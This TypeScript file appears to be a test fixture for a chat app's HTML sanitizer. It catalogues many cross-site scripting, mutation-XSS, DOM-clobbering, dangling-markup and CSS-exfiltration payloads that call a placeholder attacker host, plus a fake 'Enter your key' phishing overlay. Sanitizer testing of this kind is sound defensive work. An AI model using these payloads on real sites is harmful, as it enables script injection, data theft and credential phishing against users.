import type { Family } from './attack.ts';

/** Tags that run a script: among the words of a chat they must stay words, in a preview they must stay inside. */
export const runningTags: Family = {
  name: 'tag',
  attacks: {
    script: ['a script', ({ run }) => `<script>${run}</script>`],
    scriptCase: ['a script in mixed case with a slash', ({ run }) => `<ScRiPt/x>${run}</sCrIpT >`],
    module: ['a module', ({ run }) => `<script type="module">${run}</script>`],
    remoteScript: ['a script of another host', ({ at }) => `<script src="${at}"></script>`],
    dataScript: ['a script in its address', ({ run }) => `<script src="data:text/javascript,${run}"></script>`],
    importMap: [
      'a map that sends imports elsewhere',
      ({ at }) =>
        `<script type="importmap">{"imports":{"react":"${at}"}}</script><script type="module">import "react"</script>`,
    ],
    image: ['a broken picture', ({ run }) => `<img src=x onerror=${run}>`],
    imageSlash: ['a broken picture without blanks', ({ run }) => `<img/src/onerror=${run}>`],
    imageUnclosed: ['a tag that nobody closes', ({ run }) => `<img src=x onerror=${run} x="`],
    svg: ['a drawing that loads', ({ run }) => `<svg onload=${run}>`],
    svgScript: ['a script in a drawing', ({ run }) => `<svg><script>${run}</script></svg>`],
    svgEntity: [
      'a script in a drawing, as entities',
      ({ run }) => `<svg><script>&#101;vil${run.slice(4)}</script></svg>`,
    ],
    svgAnimate: [
      'an animation of an address',
      ({ run }) =>
        `<svg><a><animate attributeName=href values=javascript:${run} /><text y=20>press me</text></a></svg>`,
    ],
    svgSet: [
      'an animation of a handler',
      ({ run }) =>
        `<svg><set attributeName=onmouseover to=${run} /><animate onbegin=${run} attributeName=x dur=1s /></svg>`,
    ],
    svgUse: [
      'a drawing that uses another',
      ({ run }) =>
        `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x" /></svg>`,
    ],
    foreign: [
      'a page in a drawing',
      ({ run }) => `<svg><foreignObject><body onload=${run}><img src=x onerror=${run}></foreignObject></svg>`,
    ],
    body: ['a second body', ({ run }) => `<body onload=${run} onpageshow=${run} onfocus=${run}>`],
    frame: ['a frame with a script as address', ({ run }) => `<iframe src="javascript:parent.${run}"></iframe>`],
    sourceDoc: [
      'a frame with a document',
      ({ run }) => `<iframe srcdoc="<script>parent.${run};top.${run}</script>"></iframe>`,
    ],
    sourceDocTwice: [
      'a frame in a frame',
      ({ run }) => `<iframe srcdoc="<iframe srcdoc='&lt;script&gt;top.${run}&lt;/script&gt;'></iframe>"></iframe>`,
    ],
    frameLoad: ['a frame that loads', ({ run }) => `<iframe onload=${run}></iframe>`],
    frameData: [
      'a page as the address of a frame',
      ({ run }) => `<iframe src="data:text/html,<script>top.${run}</script>"></iframe>`,
    ],
    frameset: ['a set of frames', ({ run }) => `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`],
    object: [
      'an object with a page',
      ({ run }) => `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
    ],
    embed: [
      'an embedded drawing',
      ({ run }) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${run}'/>">`,
    ],
    focus: ['a field that takes the focus', ({ run }) => `<input autofocus onfocus=${run}>`],
    anyFocus: ['anything that takes the focus', ({ run }) => `<xss tabindex=1 autofocus onfocus=${run}>x</xss>`],
    details: ['details that open', ({ run }) => `<details open ontoggle=${run}>x</details>`],
    popover: [
      'a popover',
      ({ run }) => `<button popovertarget=p>press me</button><div popover id=p onbeforetoggle=${run}>x</div>`,
    ],
    video: ['a broken film', ({ run }) => `<video><source onerror=${run}></video>`],
    audio: ['a broken sound', ({ run }) => `<audio src=x onerror=${run}>`],
    marquee: ['words that move', ({ run }) => `<marquee onstart=${run}>x</marquee>`],
    animation: [
      'an animation of styles',
      ({ run }) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${run}>x</p>`,
    ],
    transition: [
      'the end of a transition',
      ({ run }) => `<p id=x tabindex=1 style="transition:outline 1s" ontransitionend=${run}>x</p>`,
    ],
    style: [
      'a style sheet that loads',
      ({ run }) => `<style onload=${run}></style><link rel=stylesheet href="data:text/css," onload=${run}>`,
    ],
    link: ['a link with a script', ({ run }) => `<a href="javascript:${run}">press me</a>`],
    linkLine: ['a link with a script over lines', ({ run }) => `<a href="jav&#x0A;ascript&colon;${run}">press me</a>`],
    mathLink: ['a formula that links', ({ run }) => `<math><mi href="javascript:${run}">press me</mi></math>`],
    form: ['a form with a script', ({ run }) => `<form action="javascript:${run}"><button>press me</button></form>`],
    formAction: [
      'a button with an address of its own',
      ({ run }) => `<form><button formaction="javascript:${run}">press me</button></form>`,
    ],
    imageInput: [
      'a field that is a picture',
      ({ run }) => `<input type=image src=x onerror=${run} formaction=javascript:${run}>`,
    ],
    shadow: [
      'a shadow made by markup',
      ({ run }) => `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
    ],
    slot: [
      'a slot that changes',
      ({ run }) => `<slot onslotchange=${run}></slot><div contenteditable onbeforeinput=${run}>x</div>`,
    ],
    base: [
      'another base, and a script below it',
      ({ at }) => `<base href="${at}/"><script src="assets/x.js"></script>`,
    ],
    noscript: [
      'a comment that browsers end differently',
      ({ run }) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    ],
    rawText: [
      'words that end early',
      ({ run }) =>
        `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea><xmp></xmp><img src=x onerror=${run}>`,
    ],
    title: ['a title that ends early', ({ run }) => `<title><a title="</title><img src=x onerror=${run}>">`],
  },
};

/** Markup that becomes something else when it is written down and read again. */
export const changingMarkup: Family = {
  name: 'mutation',
  attacks: {
    glyph: [
      'a formula that leaves its namespace',
      ({ run }) =>
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    ],
    annotation: [
      'an annotation that is a page',
      ({ run }) =>
        `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=${run}></style></annotation-xml></math>`,
    ],
    svgStyle: [
      'a style that ends elsewhere',
      ({ run }) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    ],
    formNest: [
      'forms inside each other',
      ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    ],
    select: [
      'a choice that closes by itself',
      ({ run }) => `<select><template><style><!--</template></select><img src=x onerror=${run}>-->`,
    ],
    table: [
      'words that a table throws out',
      ({ run }) => `<table><td><svg><desc><table><tr><svg><style><image title="</style><img src=x onerror=${run}>">`,
    ],
    template: [
      'a template in a drawing',
      ({ run }) => `<svg><template><desc><noscript></template><img src=x onerror=${run}></noscript>`,
    ],
    plain: ['everything behind it as words', ({ run }) => `<plaintext><img src=x onerror=${run}>`],
    attribute: [
      'quotation marks that some keep',
      ({ run }) => `<p title="\`\`onmouseover=${run}">x</p><p title='&quot;&gt;&lt;img src=x onerror=${run}&gt;'>y</p>`,
    ],
    nesting: [
      'more levels than parsers keep',
      ({ run }) => `${'<div>'.repeat(600)}<math><mi><style><img src=x onerror=${run}>`,
    ],
    clobber: [
      'names that hide those of the page',
      () =>
        '<form id=__proto__><input name=parentNode><input name=attributes></form><img name=cookie><a id=location href=x>',
    ],
    clobberConfig: [
      'names that hide those of the app',
      ({ at }) =>
        `<a id=runtimeConfig><a id=runtimeConfig name=basePath href="${at}"></a><meta name="parley-runtime-config" content='{"basePath":"${at}/"}'>`,
    ],
  },
};

/** Markup that asks another host, or leaves the page, without any script. */
export const leavingMarkup: Family = {
  name: 'leave',
  attacks: {
    refresh: ['a page that goes elsewhere', ({ at }) => `<meta http-equiv=refresh content="0;url=${at}">`],
    refreshScript: [
      'a page that goes to a script',
      ({ run }) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    ],
    refreshOwn: [
      'a page that goes to a call of ours',
      ({ app }) => `<meta http-equiv=refresh content="0;url=${app}api/models?canary">`,
    ],
    policy: [
      'a policy that reports',
      ({ at }) => `<meta http-equiv=Content-Security-Policy content="default-src 'none'; report-uri ${at}"><img src=x>`,
    ],
    baseTarget: [
      'a base that aims at the window above',
      ({ at }) => `<base target=_top href="${at}/"><a href=x autofocus>x</a>`,
    ],
    image: ['a picture', ({ at }) => `<img src="${at}">`],
    imageSet: [
      'a set of pictures',
      ({ at }) => `<img srcset="${at} 1x"><picture><source srcset="${at}/2"><img></picture>`,
    ],
    dangling: ['a picture that swallows what follows', ({ at }) => `<img src='${at}?said=`],
    danglingLink: ['a link that swallows what follows', ({ at }) => `<a href=${at}><font size="`],
    danglingText: [
      'a field that swallows what follows',
      ({ at }) => `<form action=${at}><input type=submit><textarea name=said>`,
    ],
    danglingTarget: ['a name that swallows what follows', ({ at }) => `<a href=${at}>x</a><base target='`],
    sheet: ['a style sheet', ({ at }) => `<link rel=stylesheet href="${at}">`],
    prefetch: [
      'a page fetched ahead',
      ({ at }) => `<link rel=prefetch href="${at}"><link rel=prerender href="${at}/2">`,
    ],
    preload: [
      'parts fetched ahead',
      ({ at }) => `<link rel=preload as=script href="${at}"><link rel=modulepreload href="${at}/2">`,
    ],
    preconnect: ['a connection opened ahead', ({ at }) => `<link rel=preconnect href="${at}">`],
    dnsPrefetch: ['a name looked up ahead', ({ host }) => `<link rel=dns-prefetch href="//${host}">`],
    dnsLink: [
      'a name looked up for a link',
      ({ host }) => `<meta http-equiv=x-dns-prefetch-control content=on><a href="//${host}/">x</a>`,
    ],
    speculation: [
      'pages fetched by rules',
      ({ at }) =>
        `<script type=speculationrules>{"prefetch":[{"urls":["${at}"],"eagerness":"immediate"}],"prerender":[{"urls":["${at}/2"]}]}</script>`,
    ],
    icon: ['an icon and a manifest', ({ at }) => `<link rel=icon href="${at}"><link rel=manifest href="${at}/2">`],
    sound: [
      'sounds and films',
      ({ at }) =>
        `<audio src="${at}" autoplay></audio><video src="${at}/2" poster="${at}/3"><track default src="${at}/4"></video>`,
    ],
    frame: ['a frame of another host', ({ at }) => `<iframe src="${at}"></iframe><frame src="${at}/2">`],
    ownFrame: [
      'a frame of our own app',
      ({ app }) => `<iframe src="${app}?canary" onload="evil[this.contentWindow.localStorage.planted]"></iframe>`,
    ],
    object: ['an object of another host', ({ at }) => `<object data="${at}"></object><embed src="${at}/2">`],
    fenced: [
      'newer kinds of frames',
      ({ at }) => `<fencedframe src="${at}"></fencedframe><portal src="${at}/2"></portal>`,
    ],
    form: [
      'a form that sends itself',
      ({ at }) =>
        `<form id=f action="${at}" method=post><input name=a value=b><button autofocus>press me</button></form>`,
    ],
    ping: ['a link that tells', ({ at }) => `<a href="#" ping="${at}">press me</a>`],
    background: [
      'the background of a table',
      ({ at }) => `<table background="${at}"><td background="${at}/2">x</table><body background="${at}/3">`,
    ],
    longdesc: [
      'addresses that browsers may follow',
      ({ at }) => `<img longdesc="${at}" lowsrc="${at}/2" dynsrc="${at}/3"><blockquote cite="${at}/4">x</blockquote>`,
    ],
    xslt: [
      'a drawing with a style sheet',
      ({ at }) => `<?xml-stylesheet href="${at}" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
    ],
    entity: [
      'an entity of another host',
      ({ at }) =>
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "${at}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    ],
    download: [
      'a link that saves a file',
      () => `<a download="setup.exe" href="data:application/octet-stream,x">press me</a>`,
    ],
  },
};

/** Styles that ask another host, or tell what stands beside them. */
export const styles: Family = {
  name: 'style',
  attacks: {
    import: ['a sheet that is imported', ({ at }) => `<style>@import "${at}";@import url(${at}/2) layer(x);</style>`],
    background: [
      'a background',
      ({ at }) => `<p style="background:url(${at})">x</p><style>body{background:image-set("${at}/2" 1x)}</style>`,
    ],
    font: [
      'a font for one letter',
      ({ at }) => `<style>@font-face{font-family:x;src:url(${at});unicode-range:U+41}*{font-family:x}</style>A`,
    ],
    attribute: [
      'letters of a field',
      ({ at }) => `<style>input[value^=a]{background:url(${at})}</style><input value=abc>`,
    ],
    cursor: [
      'a pointer and a mark',
      ({ at }) => `<style>*{cursor:url(${at}),auto;list-style:url(${at}/2)}</style><li>x`,
    ],
    filter: [
      'a filter and a mask',
      ({ at }) =>
        `<style>p{filter:url(${at}#a);mask:url(${at}/2);clip-path:url(${at}/3#a);shape-outside:url(${at}/4)}</style><p>x`,
    ],
    content: ['a picture as content', ({ at }) => `<style>p::before{content:url(${at})}</style><p>x`],
    variable: [
      'an address in a variable',
      ({ at }) => `<style>:root{--x:url(${at})}p{background:var(--x)}</style><p>x`,
    ],
    escape: [
      'letters as escapes',
      ({ at }) => `<style>p{background:\\75\\72\\6c(${at})}@\\69mport "${at}/2";</style><p>x`,
    ],
    expression: [
      'scripts of old browsers',
      ({ run }) =>
        `<p style="width:expression(${run});behavior:url(#default#time2);-moz-binding:url(data:,${run})">x</p>`,
    ],
    cover: [
      'words over the whole window',
      () =>
        '<p style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended. Enter your key.</p>',
    ],
    end: ['a style that ends itself', ({ run }) => `<style>p{content:"</style><img src=x onerror=${run}>"}</style>`],
  },
};
